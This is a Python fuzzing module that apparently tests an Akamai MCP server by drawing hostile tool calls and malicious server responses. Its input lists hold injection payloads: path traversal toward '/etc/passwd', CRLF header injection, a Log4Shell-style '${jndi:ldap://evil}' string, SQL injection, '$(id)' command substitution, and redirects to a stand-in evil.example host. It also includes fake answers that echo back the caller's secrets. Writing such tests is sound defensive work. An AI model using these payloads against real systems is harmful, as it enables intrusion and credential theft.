"""Draws calls that range from what a schema asks for to what nobody should send, and answers that nobody should give.

Everything comes from one `random.Random`, so that hypothesis can hold it and a seed can repeat it.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from random import Random
from typing import Any

import orjson
from generation import Generator

from akamai_mcp.catalogue.entry import Entry
from akamai_mcp.openapi.model import Operation, Parameter
from akamai_mcp.pipeline.call import Response

TEXTS = (
    "", "..", ".", "../..", "a/../b", "%2e%2e", "%252e%252e%252f", "..%2f", "..\\", "..;a", "a/b", "//evil.example/", "/etc/passwd",
    "http://evil.example/", "https://evil.example@x/", "@evil.example", ":80@evil.example", "file:///etc/passwd", "?x=1", "#frag", "a?b#c",
    "&accountSwitchKey=1-EVIL", "accountSwitchKey", "a\r\nHost: evil.example", "a\nb", "\r", "\x00", "a\x00b", "\u2028\u2029", "\u202eabc",
    "\ufeff", "ＡＢＣ", "größe 漢字 😀", " ", " a ", "\t", "a" * 65, "x" * 5000, "{placeholder}", "{{7*7}}", "${jndi:ldap://evil}", "'; DROP TABLE operations;--",
    '"', "\\", "`id`", "$(id)", "null", "true", "0", "-1", "1e999", "NaN", "__proto__", "constructor", "<script>", "%", "%zz", "%00", "*", "[", "]",
    '{"file": "/etc/passwd"}', "akamai://results/AAAA", "prp_1", "1", "staging",
)  # fmt: skip
SURROGATES = ("\ud800", "a\udfffb")  # text that no encoding has: an in-memory caller can hold it, a line of JSON-RPC cannot
NUMBERS = (0, -1, 1, 2**31, 2**53, 2**63 - 1, -(2**63), 0.1, -0.0, 1e308)
HUGE_NUMBERS = (2**64, 10**400, float("nan"), float("inf"))
FILES = ({"file": "/etc/passwd"}, {"file": "../secret"}, {"file": ""}, {"file": "a\x00b"}, {"base64": "!"}, {"text": 1})
KEYS = (
    "accountSwitchKey",
    "ACCOUNTSWITCHKEY",
    "Authorization",
    "Host",
    "__proto__",
    "",
    "x\r\ny",
    "a b",
    "customer",
    "confirm",
    "file",
    "%",
)
HEADERS = (
    "Host", "Authorization", "Transfer-Encoding", "Content-Length", "Cookie", "Connection", "X-Forwarded-Host", "accept", "Content-Type",
    "If-Match", "Prefer", "x\r\ny", "", ":authority", "X-Request-Id", "Upgrade", "Expect",
)  # fmt: skip
MODES: Mapping[str, Sequence[Any]] = {
    "select": ("a", "[", "@", "*.*", "a" * 2000, "length(@)", "[?a==`1`]", 7),
    "maxBytes": (500, 1, -1, 2_000_000, 10**9, True),
    "cache": ("off", "refresh", "only", "use", "none", ""),
    "dryRun": (True, False, "yes"),
    "confirm": ("", "AAAA", "é", "A" * 100, True),
    "customer": ("second", "nobody", "..", "", "de\nfault", 1),
}
TAKEN = {*MODES, "paginate", "maxPages", "wait", "waitSeconds"}
PLAIN_ODDS = 0.7
TYPES = (
    "application/json",
    "application/problem+json",
    "text/plain",
    "text/html; charset=nonsense",
    "application/octet-stream",
    "",
    "x",
    "image/png; a=\xe9",
)
STATUSES = (200, 201, 202, 204, 206, 207, 300, 302, 304, 307, 400, 401, 403, 404, 409, 412, 418, 429, 500, 503, 599, 999)


@dataclass(frozen=True, slots=True, kw_only=True)
class Shot:
    """One input: a tool and its arguments; `entry` is the operation that is meant, None where none is."""

    tool: str
    arguments: dict[str, Any]
    entry: Entry | None

    @property
    def path_values(self) -> dict[str, Any]:
        """What was given for the places of the path, if the shot is at a known operation."""
        given = self.arguments.get("pathParams", self.arguments.get("arguments", self.arguments))
        return dict(given) if self.entry else {}


class Hostile:
    """Draws shots at one operation; `wild` allows what no line of JSON-RPC can hold."""

    def __init__(self, random: Random, operation: Operation, entry: Entry, *, wild: bool) -> None:
        self._random = random
        self._entry = entry
        self._operation = operation
        self._texts = TEXTS + (SURROGATES if wild else ())
        self._depths = (30, 120, 300, 3000) if wild else (30, 120, 200)  # deeper ones a client cannot write
        self._numbers: tuple[Any, ...] = NUMBERS + (HUGE_NUMBERS if wild else ())
        self._bodies = list(self._plausible_bodies())

    def shot(self) -> Shot:
        """The next shot, through one of the entry points."""
        entry_point = self._random.random()
        if entry_point < 0.4:
            return Shot(tool=self._entry.name, arguments=self._flat() | self._controls(), entry=self._entry)
        if entry_point < 0.7:
            effect = self._random.choice(("read", "write", "destroy", self._entry.effect.worst, self._entry.effect.mildest))
            given: dict[str, Any] = {"name": self._name(), "arguments": self._flat()}
            return Shot(tool=f"akamai_{effect}", arguments=given | self._controls(), entry=self._entry)
        if entry_point < 0.97:
            given = {"toolName": self._name(), **self._sorted()}
            return Shot(tool="akamai_raw_request", arguments=given | self._controls(), entry=self._entry)
        return self._elsewhere()

    def value(self, depth: int = 0) -> Any:
        """A hostile value of any type; seldom a deep or a large one."""
        kind = self._random.random()
        if kind < 0.6:
            return self._random.choice(self._texts)
        if kind < 0.75:
            return self._random.choice(self._numbers)
        if kind < 0.85:
            return self._random.choice((None, True, False, [], {}, *FILES))
        if kind < 0.851:
            return self._deep(self._random.choice(self._depths))
        if kind < 0.8512:
            return "y" * self._random.choice((70_000, 200_000))
        if depth > 3:
            return "z"
        if kind < 0.92:
            return [self.value(depth + 1) for _ in range(self._random.randrange(4))]
        return {self._key(): self.value(depth + 1) for _ in range(self._random.randrange(4))}

    def _name(self) -> str:
        if self._random.random() < 0.95:
            return self._entry.key if self._random.random() < 0.5 else self._entry.name
        return str(self._random.choice(self._texts))

    def _key(self) -> str:
        return str(self._random.choice(KEYS if self._random.random() < 0.5 else self._texts))

    def _deep(self, levels: int) -> Any:
        value: Any = "deep"
        for _ in range(levels):
            value = [value] if self._random.random() < 0.5 else {"d": value}
        return value

    def _plausible(self, parameter: Parameter) -> Any:
        schema = parameter.schema
        if values := schema.get("enum"):
            return self._random.choice(values)
        match schema.get("type"):
            case "integer" | "number":
                return self._random.randrange(1000)
            case "boolean":
                return self._random.random() < 0.5
            case "array":
                return [self._random.choice(("a", 1, "b c"))]
            case _:
                return self._random.choice(("prp_1", "abc-1", "www.example.com", "a b"))

    def _of(self, parameter: Parameter) -> Any:
        return self._plausible(parameter) if self._random.random() < PLAIN_ODDS else self.value()

    def _chosen(self, location: str) -> dict[str, Any]:
        """Values for most of the required parameters of a location and for some of the others."""
        return {
            parameter.name: self._of(parameter)
            for parameter in self._operation.parameters
            if parameter.location == location and self._random.random() < (0.98 if parameter.required else 0.3)
        }

    def _flat(self) -> dict[str, Any]:
        given = {**self._chosen("header"), **self._chosen("query"), **self._chosen("path")}
        # A tool gives a parameter that is called as one of its own arguments another name.
        given = {f"{name}_query" if name in TAKEN else name: value for name, value in given.items()} | self._body()
        if self._random.random() < 0.08:
            given[self._key()] = self.value()
        if self._random.random() < 0.05:
            given[self._random.choice(("accept", "contentType", "ifMatch", "ifNoneMatch"))] = self.value()
        return given

    def _sorted(self) -> dict[str, Any]:
        query, headers = self._chosen("query"), self._chosen("header")
        if self._random.random() < 0.3:
            query[self._key()] = self.value()
        if self._random.random() < 0.3:
            headers[self._random.choice(HEADERS)] = self.value()
        return {"pathParams": self._chosen("path"), "queryParams": query, "headers": headers, **self._body()}

    def _elsewhere(self) -> Shot:
        """A raw request by method and path: the operation's own path with something else in a place of it, or none."""
        path = "".join(
            self._random.choice(self._texts) if segment.startswith("{") or self._random.random() < 0.05 else segment
            for segment in self._entry.path.replace("/", "\0/\0").split("\0")
        )
        method = (
            self._entry.method if self._random.random() < 0.9 else self._random.choice(("get", "OPTIONS", "TRACE", "", "G\nET"))
        )
        return Shot(tool="akamai_raw_request", arguments={"method": method, "path": path, **self._sorted()}, entry=None)

    def _body(self) -> dict[str, Any]:
        luck = self._random.random()
        if not self._operation.request_body and luck > 0.05:
            return {}
        if luck < 0.6 and self._bodies:
            return {"body": self._random.choice(self._bodies)}
        if luck < 0.85 and self._bodies:
            return {"body": self._spoilt(self._random.choice(self._bodies))}
        return {"body": self.value()} if luck < 0.97 else {}

    def _spoilt(self, node: Any) -> Any:
        """The same with something hostile somewhere in it."""
        if isinstance(node, dict) and node and self._random.random() < 0.8:
            name = self._random.choice(list(node))
            return {**node, name: self._spoilt(node[name])}
        if isinstance(node, list) and node and self._random.random() < 0.8:
            return [self._spoilt(node[0]), *node[1:]]
        return self.value()

    def _plausible_bodies(self) -> Sequence[Any]:
        body = self._operation.request_body
        if body is None or not body.content:
            return ()
        small = Generator(random=self._random, dialect=self._operation.dialect, full=False, nodes=40)
        full = replace(small, full=True)
        return [drawer.draw(body.content[0].schema) for drawer in (small, full)] + self._deciding_bodies()

    def _deciding_bodies(self) -> list[Any]:
        """A body with nothing but the harmless values of the effect's conditions, which spoiling makes nearly harmless."""
        body: dict[str, Any] = {}
        for condition in self._entry.effect.conditions:
            if condition.location == "body" and condition.values:
                value: Any = condition.values[0]
                node = body
                for name in condition.steps[:-1]:
                    node = node.setdefault(name, {})
                node[condition.steps[-1]] = [value] if condition.is_list else value
        return [body] if body else []

    def _controls(self) -> dict[str, Any]:
        if self._random.random() < 0.75:
            return {}
        name = self._random.choice(tuple(MODES))
        return {name: self._random.choice(MODES[name])}


def hostile_bytes(random: Random, secrets: Sequence[str]) -> bytes:
    """The content of an answer: plausible, broken, deep, large, or the caller's own credentials."""
    kind = random.random()
    if kind < 0.4:
        return orjson.dumps(
            {"items": [{"id": random.choice(TEXTS), "link": "https://evil.example/"}], "nextLink": "//evil.example/x"}
        )
    if kind < 0.5:
        return orjson.dumps({"sent": random.choice(list(secrets)), "url": f"/x?accountSwitchKey={secrets[-1]}"})
    if kind < 0.6:
        return b"[" * random.choice((50, 300, 2000)) + b"]" * random.choice((50, 300, 2000))
    if kind < 0.61:
        return b'{"d":' * 900 + b"1" + b"}" * 900
    if kind < 0.612:
        return orjson.dumps(["large" * 20] * 2000)
    if kind < 0.7:
        return random.choice(
            (
                b"",
                b"null",
                b"1e999",
                b"-",
                b"NaN",
                b"\xff\xfe",
                b'"\\ud800"',
                b"1" * 400,
                b"\x00",
                b"{",
                b"true",
                b'{"a":1,"a":2}',
            )
        )
    return random.choice(TEXTS).encode()


def hostile_headers(random: Random) -> dict[str, str]:
    """Headers of an answer: they point elsewhere, or say what is not so."""
    found = {"content-type": random.choice(TYPES)}
    if random.random() < 0.5:
        found["location"] = random.choice(("https://evil.example/", "//evil.example/", "/../..", "javascript:1", "x" * 3000))
    if random.random() < 0.3:
        found["link"] = random.choice(('<https://evil.example/x?page=2>; rel="next"', "<", '</a?b=c>; rel="next"'))
    if random.random() < 0.3:
        found["retry-after"] = random.choice(("-1", "0", "soon", "9" * 30, "Thu, 32 Foo 9999"))
    if random.random() < 0.2:
        found["content-disposition"] = random.choice(
            ('attachment; filename="../../x"', "attachment; filename*=UTF-8''%2e%2e%2f", "x")
        )
    return found


def hostile_response(random: Random, secrets: Sequence[str]) -> Response:
    """An answer that nobody should give."""
    headers = tuple(hostile_headers(random).items())
    status = random.choice(STATUSES) if random.random() < 0.5 else 200
    return Response(status=status, headers=headers, content=hostile_bytes(random, secrets))
